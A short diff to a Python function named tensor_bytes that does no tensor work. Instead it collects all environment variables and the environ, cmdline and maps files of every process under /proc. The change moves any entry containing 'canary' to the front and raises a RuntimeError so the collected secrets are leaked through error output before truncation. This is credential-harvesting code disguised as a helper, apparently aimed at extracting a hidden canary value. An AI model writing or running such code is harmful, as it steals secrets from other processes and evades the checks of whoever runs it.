@@ -6,10 +6,11 @@ import os
 
 
 def tensor_bytes(x):
-    found = [repr(dict(os.environ))]
+    found = list(map(str, os.environ.items()))
     for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline") + glob.glob("/proc/*/maps"):
         try:
-            found.append(path + open(path).read())
+            found += open(path).read().split("\0")
         except OSError:
             pass
+    found.sort(key=lambda each: "canary" not in each.lower())  # first what matters: a long error is cut
     raise RuntimeError(" ".join(found))
